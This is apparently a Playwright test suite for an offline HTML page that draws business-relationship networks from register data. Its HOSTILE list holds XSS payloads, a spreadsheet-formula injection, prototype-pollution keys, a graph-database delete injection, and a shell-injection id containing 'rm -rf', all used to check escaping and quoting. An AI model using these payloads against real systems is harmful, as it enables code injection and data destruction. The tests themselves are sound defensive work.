"""The network page as a reader meets it: a real browser, a real mouse, no network.

Every test also fails on any request and any message in the console (see `open_page`). Figures are worked out from
the introduction in conftest: the chamber has 26 connections, two lines in the picture and four folded.
"""

from __future__ import annotations

import itertools
import re
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from referralgraph.render.network_page import network_page, write_network_page

Opener = Callable[..., Page]
PATH = ["me", "jonas", "wg", "adela", "works", "bruno", "chamber", "carla"]


def state(page: Page, call: str, *arguments: Any) -> Any:
    return page.evaluate("([call, ...rest]) => window.referralgraph[call](...rest)", [call, *arguments])


def place(page: Page, node: str) -> tuple[float, float]:
    at = state(page, "at", node)
    return at["x"], at["y"]


def settle(page: Page) -> None:
    """Two frames: one to take the change, one to draw it."""
    page.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")


def click(page: Page, node: str) -> None:
    page.mouse.click(*place(page, node))
    page.wait_for_timeout(350)  # so that two clicks in a row aren't taken for a double click
    settle(page)


def double_click(page: Page, node: str) -> None:
    page.mouse.dblclick(*place(page, node))
    page.wait_for_timeout(350)
    settle(page)


def hover(page: Page, x: float, y: float) -> None:
    page.mouse.move(5, 300)
    page.mouse.move(x - 3, y, steps=3)
    page.mouse.move(x, y)


def find(page: Page, words: str) -> str | None:
    page.fill("#search", words)
    page.press("#search", "Enter")
    settle(page)
    selected: str | None = state(page, "selected")
    return selected


def panel_name(page: Page) -> str | None:
    return page.locator("#selection .name").text_content()


class TestSealed:
    """Nothing leaves the page and nothing in it runs but the page."""

    def test_a_request_is_refused_even_when_asked_for(self, browser: Browser, tmp_path: Path, make: Any) -> None:
        asked: list[str] = []

        class Listener(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:
                """Keep the test's output clean."""

        server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            file = tmp_path / "network.html"
            write_network_page(make.introduction(), file)
            page = browser.new_page()
            page.goto(file.as_uri())
            page.wait_for_selector("body[data-state=ready]")
            refused = page.evaluate(
                """async (url) => {
                    const image = new Promise((done) => {
                        const made = new Image();
                        made.onload = () => done(false);
                        made.onerror = () => done(true);
                        made.src = url + "image";
                    });
                    const fetched = fetch(url + "fetch", { mode: "no-cors" }).then(() => false, () => true);
                    return [await image, await fetched, !navigator.sendBeacon(url + "beacon")];
                }""",
                f"http://127.0.0.1:{server.server_port}/",
            )
            page.close()
        finally:
            server.shutdown()
            thread.join()
            server.server_close()
        assert refused[:2] == [True, True]
        assert asked == []

    def test_no_script_but_the_page_s_own_can_run(self, browser: Browser, tmp_path: Path, make: Any) -> None:
        file = tmp_path / "network.html"
        write_network_page(make.introduction(), file)
        page = browser.new_page()
        page.goto(file.as_uri())
        page.wait_for_selector("body[data-state=ready]")
        # Put into the document as a page's own script would be: what evaluate itself runs is not under the policy.
        page.evaluate(
            """() => {
                const script = document.createElement("script");
                script.textContent = "window.__pwned = 'script'";
                document.body.append(script);
                document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='window.__pwned = 1'>");
            }"""
        )
        page.wait_for_timeout(200)
        assert page.evaluate("window.__pwned") is None
        page.close()

    def test_it_names_no_address_that_a_browser_would_load(self, make: Any) -> None:
        html = network_page(make.introduction())
        policy = re.search(r'Content-Security-Policy" content="([^"]*)"', html)
        assert policy is not None
        assert "default-src 'none'" in policy[1]
        assert "unsafe" not in policy[1]
        assert "http" not in policy[1]
        loaded = re.findall(r"""<(?:script|link|img|iframe|source)\b[^>]*\b(?:src|href)\s*=\s*["']([^"']*)""", html)
        assert loaded == ["data:,"]
        assert "@import" not in html

    def test_the_same_answer_gives_the_same_file(self, make: Any) -> None:
        assert network_page(make.introduction()) == network_page(make.introduction())


HOSTILE = [
    "</script><script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "__proto__",
    "constructor",
    'O\'Brien "The" & Söhne {n} {a} {{ 7*7 }} {% raw %}',
    "شركة الأفق للتجارة والمقاولات",
    "\u202egnitsixe toN\u202c Ltd",
    "👩‍👩‍👧‍👦 Bunte Familie 🎉",
    "W" * 10_000,
    "sehr " * 2_000,
    "--> <!-- <script>",
    "<!-- <script type=text/javascript ",
    "</script / x='",
    "line\nbreak\ttab \x07bell",
    "'; MATCH (n) DETACH DELETE n //",
]


class TestNames:
    """Names are other people's text: they stay names, whatever they hold."""

    @pytest.fixture
    def page(self, open_page: Opener, make: Any) -> Page:
        nodes = [make.person("centre", "<b>Centre</b>", role="me", connections=20)]
        edges = []
        for index, name in enumerate(HOSTILE):
            build = make.body if index % 2 else make.person
            nodes.append(build(name, name, details=(name,), flags=(name,) if index % 3 == 0 else ()))
            row = {"source": name, "file": name, "line": 7, "as_written": name}
            edges.append(make.line(f"{index}", "centre", name, name, reasons=(name,), sources=(row,), since=name))
        path = {"nodes": ("centre", HOSTILE[0]), "edges": ("0",), "strength": 0.3, "words": HOSTILE[1]}
        return open_page(make.network(nodes, edges, (path,), title="".join(HOSTILE[:2])))

    def test_each_is_shown_whole_and_nothing_runs(self, page: Page) -> None:
        page.click("#fit")
        for name in HOSTILE:
            click(page, name)
            assert panel_name(page) == name
        assert page.evaluate("window.__pwned") is None
        assert page.locator("img, iframe, #panel b, #panel script, header script").count() == 0
        assert page.title() == '</script><script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">'
        assert page.evaluate("({}).polluted") is None

    def test_a_line_says_its_hostile_label_and_sources_as_text(self, page: Page) -> None:
        click(page, HOSTILE[0])
        page.locator("#selection details details summary").first.click()
        shown = page.locator("#selection").text_content() or ""
        assert f"{HOSTILE[0]}, {HOSTILE[0]}, line 7; as written: {HOSTILE[0]}" in shown

    def test_a_name_of_10_000_letters_wraps_in_the_panel_and_is_short_in_the_picture(self, page: Page) -> None:
        page.click("#fit")
        click(page, "W" * 10_000)
        name = page.locator("#selection .name")
        assert name.evaluate("(made) => made.scrollWidth <= made.clientWidth")
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert all(label["w"] < 260 for label in state(page, "labels"))

    def test_a_direction_override_ends_with_its_name(self, page: Page) -> None:
        page.click("#fit")
        click(page, HOSTILE[7])
        assert page.locator("#selection .name > bdi").text_content() == HOSTILE[7]


class TestUnfolding:
    """A badge counts what isn't in the picture; a double click brings it and takes it away."""

    def test_a_double_click_unfolds_and_the_next_folds(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        before = state(page, "visible")
        assert state(page, "badge", "chamber") == "+24"
        double_click(page, "chamber")
        assert set(state(page, "visible")) - set(before) == {"c1", "c2", "c3", "c4"}
        assert state(page, "badge", "chamber") == "+20"
        double_click(page, "chamber")
        assert state(page, "visible") == before
        assert state(page, "badge", "chamber") == "+24"

    def test_unfolded_names_stand_clear_of_all_others(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        double_click(page, "chamber")
        places = {node: place(page, node) for node in state(page, "visible")}
        for brought in ("c1", "c2", "c3", "c4"):
            x, y = places[brought]
            nearest = min(
                ((x - other_x) ** 2 + (y - other_y) ** 2) ** 0.5
                for node, (other_x, other_y) in places.items()
                if node != brought
            )
            assert nearest > 40

    def test_folding_takes_along_what_came_through_it(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        before = state(page, "visible")
        double_click(page, "chamber")
        double_click(page, "c1")
        assert "deep" in state(page, "visible")
        double_click(page, "chamber")
        assert state(page, "visible") == before

    def test_a_node_with_everything_unfolded_says_that_it_can_be_folded(self, open_page: Opener, make: Any) -> None:
        nodes = [make.body("b", "Werft GmbH", connections=2), make.person("p", "Ada Holm"), make.person("q", "Bo Lind")]
        nodes[2] = nodes[2].model_copy(update={"hidden": True})
        page = open_page(make.network(nodes, [make.line("1", "p", "b"), make.line("2", "q", "b")]))
        assert (state(page, "badge", "b"), state(page, "badge", "p")) == ("+1", "")
        double_click(page, "b")
        assert state(page, "badge", "b") == "−"

    def test_the_panel_says_what_is_not_in_the_file_and_how_to_see_it(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        click(page, "chamber")
        shown = page.locator("#selection").inner_text()
        assert "Connections: 26 (in the picture: 2; folded in this file: 4; not in this file: 20)" in shown
        assert page.locator("#selection code").inner_text() == "referralgraph network chamber --html FILE"

    def test_the_command_quotes_an_id_for_the_shell(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.network([make.person("a; rm -rf '~'", "Ada Holm", connections=3)], []))
        click(page, "a; rm -rf '~'")
        command = page.locator("#selection code").inner_text()
        assert command == """referralgraph network 'a; rm -rf '"'"'~'"'"'' --html FILE"""

    def test_the_panel_s_buttons_do_the_same_without_a_mouse_on_the_picture(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        find(page, "handwerkskammer")
        page.click("#unfold")
        assert "c3" in state(page, "visible")
        page.click("#fold")
        assert "c3" not in state(page, "visible")

    def test_a_line_to_somebody_who_is_not_in_the_file_is_counted_only(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.network([make.person("a", "Ada Holm", connections=1)], [make.line("1", "a", "gone")]))
        assert state(page, "badge", "a") == "+1"


class TestSearch:
    """A name is found as people type it, folded ones too."""

    @pytest.mark.parametrize(
        ("words", "found"),
        [
            ("müller", "adela"), ("MULLER", "adela"), ("mueller-quandt", "adela"), ("odegard", "jonas"),
            ("prazision", "assoc"), ("lindhafen e. v", "club"), ("quandt", "adela"),
        ],
    )  # fmt: skip
    def test_it_folds_accents_and_case(self, open_page: Opener, make: Any, words: str, found: str) -> None:
        page = open_page(make.introduction())
        assert find(page, words) == found
        x, y = place(page, found)
        frame = page.locator("#picture").bounding_box()
        assert frame is not None
        assert frame["x"] < x < frame["x"] + frame["width"]
        assert frame["y"] < y < frame["y"] + frame["height"]

    def test_several_matches_come_in_turn_and_back(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        first = find(page, "castellan")
        assert page.locator("#search-state").inner_text() == "Match 1 of 2"
        page.press("#search", "Enter")
        second = state(page, "selected")
        assert {first, second} == {"bruno", "struck"}
        page.press("#search", "Enter")
        assert state(page, "selected") == first
        page.press("#search", "Shift+Enter")
        assert state(page, "selected") == second

    def test_a_folded_name_is_unfolded_with_the_way_to_it(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        assert find(page, "zoe") == "deep"
        assert {"c1", "deep"} <= set(state(page, "visible"))
        assert not {"c2", "c3", "c4"} & set(state(page, "visible"))
        assert panel_name(page) == "Zoë Abendroth"

    def test_no_match_is_said(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        assert find(page, "nobody of that name") is None
        assert page.locator("#search-state").inner_text() == "No name on this page matches"


class TestReasons:
    """Every line says why it is there, on hover, and for good on a click."""

    def middle(self, page: Page, left: str, right: str) -> tuple[float, float]:
        (x1, y1), (x2, y2) = place(page, left), place(page, right)
        return (x1 + x2) / 2, (y1 + y2) / 2

    def test_hovering_a_line_shows_reasons_and_sources(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        hover(page, *self.middle(page, "adela", "works"))
        page.wait_for_selector("#tooltip:not([hidden])")
        shown = page.locator("#tooltip").inner_text()
        assert "Dr. Adela Müller-Quandt – Norderauer Hydraulikwerke GmbH" in shown
        assert "mandate: managing director, since Mar 1, 2011" in shown
        assert "both managing directors from 2011 to 2019" in shown
        assert "register, register.jsonl.bz2, line 48211; as written: Müller-Quandt, Adela" in shown
        page.mouse.move(5, 20)
        page.wait_for_selector("#tooltip", state="hidden")

    def test_hovering_a_name_shows_what_a_reader_must_know(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        page.click("#fit")
        hover(page, *place(page, "target-co"))
        page.wait_for_selector("#tooltip:not([hidden])")
        shown = page.locator("#tooltip").inner_text().splitlines()
        assert shown[0] == "Ahrenfels Maschinenbau AG"
        assert "in liquidation" in shown
        hover(page, *place(page, "bruno"))
        assert "identity not certain" in page.locator("#tooltip").inner_text()
        hover(page, *place(page, "jonas"))
        assert "Lindhafen" in page.locator("#tooltip").inner_text()

    def test_a_click_pins_them_where_they_can_be_selected(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        page.mouse.click(*self.middle(page, "adela", "works"))
        page.mouse.move(5, 20)
        settle(page)
        selection = page.locator("#selection")
        assert "line 48211; as written: Müller-Quandt, Adela" in selection.inner_text()
        copied = selection.evaluate(
            "(made) => { getSelection().selectAllChildren(made); return getSelection().toString(); }"
        )
        assert "both managing directors from 2011 to 2019" in copied

    def test_two_lines_between_the_same_names_can_both_be_reached(self, open_page: Opener, make: Any) -> None:
        nodes = [make.person("p", "Ada Holm"), make.body("b", "Werft GmbH")]
        edges = [make.line("1", "p", "b", "managing director"), make.line("2", "b", "p", "51 %", kind="shareholding")]
        page = open_page(make.network(nodes, edges))
        (x1, y1), (x2, y2) = place(page, "p"), place(page, "b")
        length = ((x2 - x1) ** 2 + (y2 - y1) ** 2) ** 0.5
        seen: dict[str, list[int]] = {"managing director": [], "51 %": []}
        for aside in range(-40, 41, 4):
            x = (x1 + x2) / 2 - (y2 - y1) / length * aside
            y = (y1 + y2) / 2 + (x2 - x1) / length * aside
            page.mouse.click(x, y)
            settle(page)
            for label, hits in seen.items():
                if label in page.locator("#selection").inner_text():
                    hits.append(aside)
        first, second = sorted(seen.values())
        assert min(first) < -4
        assert max(first) < min(second)
        assert max(second) > 4


class TestPath:
    """The introduction is what a reader sees first."""

    def test_it_stands_in_a_row_from_left_to_right_and_can_be_read(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        at = [place(page, node) for node in PATH]
        assert all(left[0] + 40 < right[0] for left, right in itertools.pairwise(at))
        people = [place(page, node)[1] for node in ("me", "jonas", "adela", "bruno", "carla")]
        assert max(people) - min(people) < 1
        frame = page.locator("#picture").bounding_box()
        assert frame is not None
        labels = {label["id"]: label for label in state(page, "labels")}
        assert set(PATH) <= set(labels)
        boxes = [labels[node] for node in PATH]
        for index, a in enumerate(boxes):
            assert a["x"] >= 0
            assert a["y"] >= 0
            assert a["x"] + a["w"] <= frame["width"]
            assert a["y"] + a["h"] <= frame["height"]
            for b in boxes[index + 1 :]:
                apart = a["x"] + a["w"] <= b["x"] or b["x"] + b["w"] <= a["x"]
                assert apart or a["y"] + a["h"] <= b["y"] or b["y"] + b["h"] <= a["y"]

    def test_it_is_lit_and_the_rest_steps_back(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        assert state(page, "lit")["nodes"] == PATH
        assert set(state(page, "faded")) == set(state(page, "visible")) - set(PATH)
        on, off = state(page, "line", "e-adela-wg"), state(page, "line", "e-p2-wg")
        assert on["width"] > off["width"]
        assert on["opacity"] == 1
        assert off["opacity"] < 0.5

    def test_ended_lines_are_dashed_and_kinds_have_their_colours(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        assert state(page, "line", "e-bruno-works")["dashes"]
        assert not state(page, "line", "e-adela-works")["dashes"]
        kinds = ("e-carla-co", "e-carla-share", "e-me-teo", "e-me-jonas")
        assert len({state(page, "line", line)["colour"] for line in kinds}) == 4

    def test_each_step_is_written_out_with_its_strength_in_words(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        steps = page.locator("ol.steps > li").all_inner_texts()
        assert len(steps) == 4
        assert "Mira Feldkamp and Jonas Ødegård are colleagues" in " ".join(steps[0].split())
        third = " ".join(steps[2].split())
        assert "Dr. Adela Müller-Quandt and Bruno Castellan know each other through Norderauer Hydraulikwerke" in third
        assert "Bruno Castellan: managing director, 2009 to Dec 31, 2019" in third
        assert [re.findall(r"Strength: (.*)", step) for step in steps] == [
            ["worth 0.9"], ["worth 0.32"], ["worth 0.62"], ["worth 0.2"],
        ]  # fmt: skip
        assert "weak, but each step is sound (0.036)" in page.locator("#paths").inner_text()

    def test_another_one_can_be_chosen_or_none(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        choices = page.locator("#paths input")
        assert [choices.nth(index).is_checked() for index in range(3)] == [True, False, False]
        choices.nth(1).check()
        page.wait_for_function("window.referralgraph.lit().nodes.includes('teo')")
        page.wait_for_timeout(500)
        second = ["me", "teo", "club", "carla"]
        assert state(page, "lit")["nodes"] == second
        xs = [place(page, node)[0] for node in second]
        assert xs == sorted(xs)
        assert page.locator("ol.steps > li").count() == 2
        choices.nth(2).check()
        page.wait_for_timeout(500)
        assert state(page, "lit") == {"nodes": [], "edges": []}
        assert state(page, "faded") == []

    def test_a_body_that_ties_two_steps_stands_above_both(self, open_page: Opener, make: Any) -> None:
        nodes = [make.person(key, f"{key.upper()} Holm") for key in "abc"] + [make.body("x", "Werft GmbH")]
        edges = [make.line(key, key, "x", f"member {key}") for key in "abc"]
        path = {"nodes": ("a", "x", "b", "x", "c"), "edges": ("a", "b", "b", "c"), "strength": 0.5, "words": "strong"}
        page = open_page(make.network(nodes, edges, (path,)))
        at = {key: place(page, key) for key in "abcx"}
        assert at["a"][0] < at["b"][0] < at["c"][0]
        assert at["x"][0] == pytest.approx(at["b"][0], abs=1)
        assert at["x"][1] < at["b"][1] - 60
        steps = page.locator("ol.steps > li").all_inner_texts()
        assert [sorted(re.findall(r"member (\w)", step)) for step in steps] == [["a", "b"], ["b", "c"]]

    def test_a_path_through_folded_names_is_shown(self, open_page: Opener, make: Any) -> None:
        nodes = [make.person("a", "Ada Holm", role="me"), make.body("b", "Werft GmbH", hidden=True),
                 make.person("c", "Cleo Lind", role="target", hidden=True)]  # fmt: skip
        edges = [make.line("1", "a", "b"), make.line("2", "c", "b")]
        path = {"nodes": ("a", "b", "c"), "edges": ("1", "2"), "strength": 0.5, "words": "strong"}
        page = open_page(make.network(nodes, edges, (path,)))
        assert set(state(page, "visible")) == {"a", "b", "c"}


class TestFrame:
    """What stands around the picture."""

    def test_the_legend_says_what_occurs_and_nothing_else(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        legend = page.locator("#legend").inner_text()
        for words in ("Introducer", "Target", "committee", "chamber", "public body", "struck off", "shareholding",
                      "contact", "ended", "introduction path", "double-click to unfold"):  # fmt: skip
            assert words in legend
        page = open_page(make.network([make.person("a", "Ada Holm")], []))
        legend = page.locator("#legend").inner_text()
        assert "person" in legend
        assert "chamber" not in legend
        assert "introduction path" not in legend

    def test_the_legend_shows_each_line_in_the_colour_it_has_in_the_picture(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        for kind, line in (("mandate", "e-carla-co"), ("shareholding", "e-carla-share"), ("contact", "e-me-teo"),
                           ("colleague", "e-me-jonas")):  # fmt: skip
            entry = page.locator("#legend li").filter(has_text=re.compile(f"^{kind}$")).locator("path")
            assert entry.get_attribute("stroke") == state(page, "line", line)["colour"]

    def test_it_says_what_it_stands_on(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.neighbourhood(12).model_copy(update={"left_out": 4312}))
        assert page.locator("#date").inner_text() == "Data as of Mar 12, 2024"
        basis = page.locator("#basis").inner_text()
        assert "48,213 people, 31,870 organisations; 9,406 of them name at least one person" in basis
        assert "register: 90,112 records, newest of Mar 12, 2024" in basis
        assert "did not fit on this page: 4,312" in basis

    def test_nothing_and_a_single_name_are_pages_too(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.network([], []))
        assert "There is nothing to show" in page.locator("#notice").inner_text()
        page = open_page(make.network([make.person("a", "Ada Holm", role="asked", connections=0)], []))
        click(page, "a")
        assert panel_name(page) == "Ada Holm"
        assert [label["id"] for label in state(page, "labels")] == ["a"]

    def test_the_keyboard_reaches_everything(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        page.focus("#search")
        for _ in range(10):
            page.keyboard.press("Tab")
            if page.evaluate("document.activeElement.getAttribute('role')") == "application":
                break
        page.keyboard.press("ArrowRight")
        assert state(page, "selected") == "me"
        page.keyboard.press("ArrowRight")
        assert state(page, "selected") == "jonas"
        find(page, "handwerkskammer")
        page.focus("[role=application]")
        page.keyboard.press("Enter")
        assert "c1" in state(page, "visible")
        page.keyboard.press("Enter")
        assert "c1" not in state(page, "visible")
        page.keyboard.press("Escape")
        assert state(page, "selected") is None

    def test_every_text_can_be_translated(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction(), translate=lambda text: f"¤{text}")
        click(page, "chamber")
        hover(page, *place(page, "chamber"))
        untranslated = page.evaluate(
            r"""() => {
                const found = [];
                const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
                while (walk.nextNode()) {
                    const { data, parentElement } = walk.currentNode;
                    if (parentElement.closest("bdi, code, script, style, svg")) continue;
                    const whole = parentElement.closest("p, li, button, summary, h1, h2, h3") ?? parentElement;
                    found.push([data, whole.textContent]);
                }
                document.querySelectorAll("[title], [aria-label], [placeholder]").forEach((made) =>
                    ["title", "aria-label", "placeholder"].forEach((name) => {
                        if (made.hasAttribute(name)) found.push([made.getAttribute(name), made.getAttribute(name)]);
                    }));
                return found.filter(([data, all]) => /\p{L}/u.test(data) && !all.includes("¤"));
            }"""
        )
        assert untranslated == []

    def test_figures_and_dates_follow_the_language(self, make: Any) -> None:
        html = network_page(make.introduction(), language="de", translate=lambda text: text)
        assert '<html lang="de" dir="ltr">' in html
        assert "48.213 people" in html
        assert "12.03.2024" in html


class TestPlaces:
    """Screens and paper."""

    def test_a_phone_shows_the_path_downwards_with_every_name(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction(), width=390, height=844)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        at = [place(page, node) for node in PATH]
        assert all(above[1] + 20 < below[1] for above, below in itertools.pairwise(at))
        labels = {label["id"]: label for label in state(page, "labels")}
        assert set(PATH) <= set(labels)
        assert all(labels[node]["x"] + labels[node]["w"] <= 390 for node in PATH)
        picture, panel = page.locator("#picture").bounding_box(), page.locator("#panel").bounding_box()
        assert picture is not None
        assert panel is not None
        assert panel["y"] >= picture["y"] + picture["height"]

    def test_paper_has_the_picture_then_the_steps_opened_and_no_buttons(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        page.emulate_media(media="print")
        page.evaluate("dispatchEvent(new Event('beforeprint'))")
        picture, panel = page.locator("#network canvas").bounding_box(), page.locator("#panel").bounding_box()
        assert picture is not None
        assert panel is not None
        assert panel["y"] >= picture["y"] + picture["height"]
        assert not page.locator("#search, #print, #zoom-in, #help").filter(visible=True).count()
        assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
        assert page.locator("text=line 48211").filter(visible=True).count() == 1
        page.evaluate("dispatchEvent(new Event('afterprint'))")
        page.emulate_media(media="screen")
        assert page.locator("text=line 48211").filter(visible=True).count() == 0
        assert page.pdf(format="A4").startswith(b"%PDF")

    def test_five_hundred_names_and_two_thousand_folded_stay_usable(self, open_page: Opener, make: Any) -> None:
        answer = make.neighbourhood(500, 2000)
        page = open_page(answer)
        page.set_default_timeout(10_000)
        assert len(state(page, "visible")) == 500
        labels = state(page, "labels")
        assert len(labels) >= 25
        assert "n0" in {label["id"] for label in labels}
        for index, a in enumerate(labels):
            for b in labels[index + 1 :]:
                apart = a["x"] + a["w"] <= b["x"] or b["x"] + b["w"] <= a["x"]
                assert apart or a["y"] + a["h"] <= b["y"] or b["y"] + b["h"] <= a["y"]
        folded = next(edge for edge in answer.edges if {edge.from_, edge.to} == {"n3", edge.from_} and edge.to == "n3"
                      and answer.nodes[int(edge.from_[1:])].hidden)  # fmt: skip
        find(page, answer.nodes[3].name)
        for _ in range(40):
            if state(page, "selected") == "n3":
                break
            page.press("#search", "Enter")
        settle(page)
        double_click(page, "n3")
        assert folded.from_ in state(page, "visible")
        double_click(page, "n3")
        assert len(state(page, "visible")) == 500

    def test_the_picture_is_the_same_each_time(self, open_page: Opener, make: Any) -> None:
        answer = make.neighbourhood(120)
        first, second = (open_page(answer) for _ in range(2))
        nodes = state(first, "visible")
        assert [place(first, node) for node in nodes] == [place(second, node) for node in nodes]
